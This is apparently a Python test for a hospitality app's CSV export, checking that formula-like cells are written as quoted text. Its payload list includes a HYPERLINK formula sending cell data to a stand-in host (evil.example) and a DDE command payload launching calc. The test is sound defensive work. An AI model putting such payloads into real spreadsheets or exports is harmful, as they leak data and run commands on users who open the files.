"""CSV for spreadsheets: a cell a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io

from hospitality_app.exports.tables import csv_bytes


def test_formula_cells_are_written_as_text():
    payloads = ['=HYPERLINK("https://evil.example/?leak="&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "\t=1+1"]
    rows = [[p, "Budi Santoso", 3, None] for p in payloads] + [["-5", "a-b", "e=mc2", "ok"]]
    text = csv_bytes(["Task", "Owner", "n", "empty"], rows).decode("utf-8-sig")
    written = list(csv.reader(io.StringIO(text)))
    assert [row[0] for row in written[1:]] == [f"'{p}" for p in payloads] + ["'-5"]
    assert written[-1][1:] == ["a-b", "e=mc2", "ok"]  # only a cell's first character matters
    assert written[1][1:] == ["Budi Santoso", "3", ""]
